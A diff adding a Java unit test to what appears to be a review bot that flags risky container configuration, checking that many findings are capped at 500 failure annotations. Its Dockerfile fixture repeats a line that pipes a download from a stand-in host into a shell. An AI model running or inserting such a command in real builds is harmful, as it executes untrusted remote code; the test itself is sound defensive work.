@@ -113,6 +113,23 @@ class CheckRunTest {
     assertTrue(run.annotations().size() > 50);
   }
 
+  /// Notes cost calls that all repositories of an installation share.
+  @Test
+  void ofVeryManyNotesTheWorstAreSent() {
+    Pull pull =
+        Pull.added("compose.yaml", Texts.onHostNetwork(600))
+            .and(
+                "Dockerfile",
+                "",
+                "FROM alpine:3.22\n" + "RUN curl http://x.example | sh\n".repeat(9))
+            .settings("review: {max-comments: 0}");
+    List<CheckRun.Annotation> notes = run(pull).annotations();
+    assertEquals(500, notes.size());
+    assertEquals(
+        List.of(CheckRun.Level.FAILURE),
+        notes.stream().map(CheckRun.Annotation::level).distinct().toList());
+  }
+
   @ParameterizedTest
   @EnumSource(Language.class)
   void buttonsFitIntoTheirLimits(Language language) {
